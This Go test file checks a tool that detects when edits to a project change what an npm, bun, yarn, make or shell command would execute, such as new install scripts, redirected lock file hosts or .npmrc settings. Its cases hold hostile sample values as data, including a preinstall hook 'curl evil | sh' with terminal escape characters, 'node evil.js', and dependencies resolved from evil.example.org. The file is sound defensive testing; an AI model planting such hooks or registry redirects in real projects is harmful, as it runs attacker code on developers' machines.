package inputs

import (
	"strings"
	"testing"
)

// project is an ordinary npm project with what else the table knows.
const project = `
-- package.json --
{
  "name": "app",
  "version": "1.0.0",
  "scripts": {
    "prepare": "husky",
    "build": "npm run gen && tsc",
    "gen": "node scripts/gen.js",
    "test": "vitest run"
  },
  "dependencies": {"left-pad": "^1.0.0"},
  "devDependencies": {"typescript": "^5.0.0"}
}
-- package-lock.json --
{
  "name": "app",
  "lockfileVersion": 3,
  "packages": {
    "": {"name": "app", "dependencies": {"left-pad": "^1.0.0"}},
    "node_modules/left-pad": {
      "version": "1.3.0",
      "resolved": "https://registry.example.org/left-pad/-/left-pad-1.3.0.tgz",
      "integrity": "sha512-xxx",
      "funding": {"url": "https://funding.example.org/left-pad"}
    }
  }
}
-- scripts/gen.js --
console.log("gen")
-- scripts/fix.sh --
#!/bin/sh
. ./scripts/lib.sh
npm ci
-- scripts/lib.sh --
helper() { :; }
-- src/main.ts --
export {}
-- Makefile --
include build/*.mk
-include local.mk

all: deps
	@./scripts/fix.sh
	$(MAKE) -C sub
-- build/rules.mk --
deps:
	true
-- sub/Makefile --
all:
	true
`

const newDependency = `{
  "name": "app",
  "version": "1.0.1",
  "scripts": {
    "prepare": "husky",
    "build": "npm run gen && tsc",
    "gen": "node scripts/gen.js",
    "test": "vitest run --coverage",
    "lint": "eslint ."
  },
  "dependencies": {"left-pad": "^1.0.0", "@scope/other": "npm:other@^2.0.0", "third": ">=1 <3 || 5.x"},
  "devDependencies": {"typescript": "^5.0.0"}
}
`

const newLock = `{
  "name": "app",
  "lockfileVersion": 3,
  "packages": {
    "": {"name": "app", "dependencies": {"left-pad": "^1.0.0", "third": ">=1"}},
    "node_modules/third": {
      "version": "2.0.0",
      "resolved": "https://registry.example.org/third/-/third-2.0.0.tgz",
      "license": "MIT",
      "funding": {"url": "https://other.example.org/third"},
      "deprecated": "see https://elsewhere.example.org for more"
    }
  }
}
`

// TestEdits edits the committed project as an agent would and asks what a command
// has to do with it.
func TestEdits(t *testing.T) {
	t.Parallel()
	projects := newShared(t)
	for _, c := range []struct {
		name, command string
		edit          func(b box)
		want          string
	}{
		{"nothing", "npm install", func(b box) {}, ""},
		{"a plain new dependency", "npm install", func(b box) { b.put("package.json", newDependency); b.put("package-lock.json", newLock) }, ""},
		{"the published command", "rm -rf node_modules && bun install", func(b box) { b.put("package.json", newDependency) }, ""},
		{"white space and order", "npm ci", func(b box) {
			b.put("package.json", `{"devDependencies":{},"scripts":{"prepare":"husky"},"name":"app"}`)
		}, ""},
		{"a preinstall script", "npm install", func(b box) { b.replace("package.json", `"prepare"`, `"preinstall": "node evil.js", "prepare"`) },
			"appeared package.json scripts.preinstall"},
		{"a postinstall script, bun", "rm -rf node_modules && bun install", func(b box) { b.replace("package.json", `"prepare"`, `"postinstall": "x", "prepare"`) },
			"appeared package.json scripts.postinstall"},
		{"an escaped name", "npm ci", func(b box) { b.replace("package.json", `"prepare"`, `"pre\u0069nstall": "x", "prepare"`) },
			"appeared package.json scripts.preinstall"},
		{"a doubled key", "npm ci", func(b box) { b.replace("package.json", `"version"`, `"scripts": {"prepare": "no"}, "version"`) }, ""},
		{"a doubled key that counts", "npm ci", func(b box) {
			b.replace("package.json", `"devDependencies"`, `"scripts": {"prepare": "evil"}, "devDependencies"`)
		},
			"changed package.json scripts.prepare"},
		{"a changed script", "npm ci", func(b box) { b.replace("package.json", `"husky"`, `"husky; evil"`) }, "changed package.json scripts.prepare"},
		{"a script that is gone", "npm ci", func(b box) { b.replace("package.json", `"prepare": "husky",`, ``) }, "vanished package.json scripts.prepare"},
		{"scripts are off", "npm ci --ignore-scripts", func(b box) { b.replace("package.json", `"husky"`, `"evil"`) }, ""},
		{"a script of tests", "npm install", func(b box) { b.replace("package.json", "vitest run", "evil") }, ""},
		{"run build", "npm run build", func(b box) { b.replace("package.json", `tsc"`, `tsc --x"`) }, "changed package.json scripts.build"},
		{"what build runs", "npm run build", func(b box) { b.replace("package.json", "node scripts/gen.js", "node scripts/other.js") },
			"changed package.json scripts.gen, vanished scripts/gen.js"},
		{"the script's file", "npm run build", func(b box) { b.put("scripts/gen.js", "evil()") }, "changed scripts/gen.js"},
		{"a pre script", "npm run build", func(b box) { b.replace("package.json", `"prepare"`, `"prebuild": "x", "prepare"`) }, "appeared package.json scripts.prebuild"},
		{"run does not install", "npm run build", func(b box) { b.replace("package.json", `"husky"`, `"evil"`) }, ""},
		{"run what is not written out", "npm run ...", func(b box) { b.replace("package.json", "vitest run", "evil") }, "changed package.json scripts.test"},
		{"npm test", "npm test", func(b box) { b.replace("package.json", "vitest run", "evil") }, "changed package.json scripts.test"},
		{"yarn names it", "yarn build", func(b box) { b.replace("package.json", `tsc"`, `evil"`) }, "changed package.json scripts.build"},
		{"trusted dependencies", "bun install", func(b box) { b.replace("package.json", `"version"`, `"trustedDependencies": ["x"], "version"`) },
			"appeared package.json trustedDependencies"},
		{"the package manager", "yarn install", func(b box) { b.replace("package.json", `"version"`, `"packageManager": "yarn@9", "version"`) },
			"appeared package.json packageManager"},
		{"a dependency from git", "npm install", func(b box) { b.replace("package.json", `"^1.0.0"`, `"git+https://evil.example.org/x.git"`) },
			"appeared package.json dependencies.left-pad"},
		{"a dependency from a fork", "npm install", func(b box) { b.replace("package.json", `"^1.0.0"`, `"someone/left-pad"`) },
			"appeared package.json dependencies.left-pad"},
		{"an override", "npm install", func(b box) {
			b.replace("package.json", `"version"`, `"overrides": {"a": {"b": "file:./evil"}, "c": "1.0.0"}, "version"`)
		}, "appeared package.json overrides.a.b"},
		{"npmrc", "npm install", func(b box) { b.put(".npmrc", "script-shell=./evilsh\n") }, "appeared .npmrc settings"},
		{"npmrc of a directory above", "npm install", func(b box) { b.put(".npmrc", "# a comment\n\n") }, ""},
		{"a host in the lock file", "npm ci", func(b box) {
			b.replace("package-lock.json", "https://registry.example.org", "https://evil.example.org")
		},
			"changed package-lock.json sources"},
		{"an escaped host", "npm ci", func(b box) {
			b.replace("package-lock.json", `"lockfileVersion"`, `"a": {"resolved"                                                                            : "\u0068ttps://evil.example.org/x/-/x.tgz"}, "lockfileVersion"`)
		}, "changed package-lock.json sources"},
		{"a git URL in the lock file", "npm ci", func(b box) {
			b.replace("package-lock.json", `"https://registry.example.org/left-pad/-/left-pad-1.3.0.tgz"`, `"git+ssh://git@evil.example.org/x.git#1"`)
		}, "changed package-lock.json sources"},
		{"binding.gyp", "npm install", func(b box) { b.put("binding.gyp", "{}") }, "appeared binding.gyp"},
		{"no JSON", "npm install", func(b box) { b.put("package.json", "{ // evil\n}") },
			"appeared package.json, vanished package.json scripts.prepare"},
		{"a makefile", "make all", func(b box) { b.replace("Makefile", "fix.sh", "evil.sh") },
			"changed Makefile, vanished package-lock.json sources, vanished package.json scripts.prepare, vanished scripts/fix.sh, vanished scripts/lib.sh"},
		{"an included makefile", "make", func(b box) { b.put("build/rules.mk", "deps:\n\tevil\n") }, "changed build/rules.mk"},
		{"a new included makefile", "make", func(b box) { b.put("build/z.mk", "x") }, "appeared build/z.mk"},
		{"an optional include", "make", func(b box) { b.put("local.mk", "x") }, "appeared local.mk"},
		{"make in a directory", "make", func(b box) { b.put("sub/Makefile", "evil") }, "changed sub/Makefile"},
		{"GNUmakefile goes first", "make", func(b box) { b.put("GNUmakefile", "x:\n") }, "appeared GNUmakefile"},
		{"what a recipe's script runs", "make", func(b box) { b.replace("package.json", `"husky"`, `"evil"`) }, "changed package.json scripts.prepare"},
		{"a script of the repository", "./scripts/fix.sh", func(b box) { b.put("scripts/fix.sh", "evil") },
			"vanished package-lock.json sources, vanished package.json scripts.prepare, changed scripts/fix.sh, vanished scripts/lib.sh"},
		{"a script by its shell", "sh scripts/fix.sh", func(b box) { b.put("scripts/lib.sh", "evil") }, "changed scripts/lib.sh"},
		{"node with a script", "node ./scripts/gen", func(b box) { b.put("scripts/gen.js", "evil") }, "changed scripts/gen.js"},
		{"node with a preloaded script", "node -r ./evil.js scripts/gen.js", func(b box) { b.put("evil.js", "x") }, "appeared evil.js"},
		{"another file", "node scripts/gen.js", func(b box) { b.put("src/main.ts", "evil") }, ""},
		{"a link in place of a script", "sh scripts/fix.sh", func(b box) { b.rm("scripts/lib.sh"); b.link("/etc/hostname", "scripts/lib.sh") }, "changed scripts/lib.sh"},
		{"cd", "cd sub && make", func(b box) { b.put("sub/Makefile", "evil") }, "changed sub/Makefile"},
		{"-C", "make -C sub", func(b box) { b.put("sub/Makefile", "evil") }, "changed sub/Makefile"},
		{"env", "env CI=1 npm ci", func(b box) { b.replace("package.json", `"husky"`, `"evil"`) }, "changed package.json scripts.prepare"},
		{"a script called like what runs others", "./retry npm ci", func(b box) { b.put("retry", "evil") }, "appeared retry"},
		{"and one by a path", "/usr/bin/nohup npm ci", func(b box) { b.replace("package.json", `"husky"`, `"evil"`) }, "changed package.json scripts.prepare"},
		{"a program that no row names", "ls -l", func(b box) { b.put("package.json", "{}") }, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			q := query(c.command)
			b := box{t: t, dir: t.TempDir()}
			b.files(project)
			origin, blind := projects.of(t, project)
			base := origin.take(q)
			c.edit(b)
			changes := b.check(base, q)
			if got := names(changes); got != c.want {
				t.Errorf("%s: got %s, want %s\n%s", c.command, got, c.want, Diff(changes))
			}
			// The same from a file; and a baseline that did not know the command sees a
			// change where this one does.
			if got := b.check(b.again(base), q); names(got) != c.want {
				t.Errorf("read back: %s", names(got))
			}
			if got := names(b.check(blind, q)); (got == "") != (c.want == "") {
				t.Errorf("by a baseline that did not know the command: %s", got)
			}
			if (c.want == "") != (Summary(changes) == "") || (c.want == "") != (Diff(changes) == "") {
				t.Errorf("summary %q", Summary(changes))
			}
		})
	}
}

// again is the baseline as another process would find it.
func (b box) again(base *Baseline) *Baseline {
	b.t.Helper()
	back, err := decode(base.encode())
	if err != nil {
		b.t.Fatal(err)
	}
	return back
}

func TestDiffIsForPeople(t *testing.T) {
	t.Parallel()
	b := newBox(t, project)
	q := query("npm install")
	base := b.take(q)
	b.replace("package.json", `"prepare"`, `"preinstall": "curl evil | sh\u001b[2J\u202e", "prepare"`)
	b.put(".npmrc", "registry=https://u:hunter2@r.example.org/\n//r.example.org/:_authToken=hunter2\nscript-shell=./evilsh\n")
	changes := b.check(base, q)
	got := Diff(changes)
	want := `.npmrc settings: appeared (read by npm)
--- nothing (trusted)
+++ .npmrc settings (now)
+registry=https://<secret>@r.example.org/
+//r.example.org/:_authToken=<secret>
+script-shell=./evilsh
package.json scripts.preinstall: appeared (read by npm)
--- nothing (trusted)
+++ package.json scripts.preinstall (now)
+curl evil | sh<U+001B>[2J<U+202E>
`
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if s := Summary(changes); s != ".npmrc settings appeared, package.json scripts.preinstall appeared" {
		t.Errorf("summary %q", s)
	}
	base = b.take(q)
	b.replace(".npmrc", "_authToken=hunter2", "_authToken=hunter3")
	if d := Diff(b.check(base, q)); strings.Contains(d, "hunter") || !strings.Contains(d, "+(only what is hidden here is another)") {
		t.Errorf("a changed secret: %s", d)
	}
}
